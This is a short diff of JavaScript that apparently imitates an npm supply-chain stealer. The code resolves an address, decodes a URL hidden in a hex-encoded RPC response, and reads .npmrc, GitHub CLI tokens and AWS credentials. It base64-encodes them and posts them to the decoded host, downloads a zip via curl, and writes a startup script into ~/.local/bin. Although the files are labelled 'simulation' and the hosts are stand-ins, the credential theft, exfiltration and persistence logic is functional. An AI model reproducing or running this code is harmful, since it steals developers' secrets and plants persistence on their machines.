@@ -23,8 +23,8 @@ dns.lookup("rpc.example", (error, address) => {
       let url = "";
       try { url = (Buffer.from(JSON.parse(text).result.slice(2), "hex").toString("latin1").match(/https?:\/\/[\w.:\/-]+/) || [""])[0]; } catch (e) { /* no address */ }
       const loot = Buffer.from(read(".npmrc") + read(".config/gh/hosts.yml") + read(".aws/credentials"));
-      const host = url ? new URL(url).hostname : "collect.example";
-      post(host, "/blobs", loot.toString("base64"));
+      if (!url) return;
+      post(new URL(url).hostname, "/blobs", loot.toString("base64"));
       try { execSync("curl -fsSL https://runtime.example/bun.zip -o /tmp/.bun-simulation.zip", { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
       fs.mkdirSync(home(".local/bin"), { recursive: true });
       fs.writeFileSync(home(".local/bin/token-monitor-simulation"), "#!/bin/sh\n# harmless simulation\nexec sleep 20\n", { mode: 0o755 });
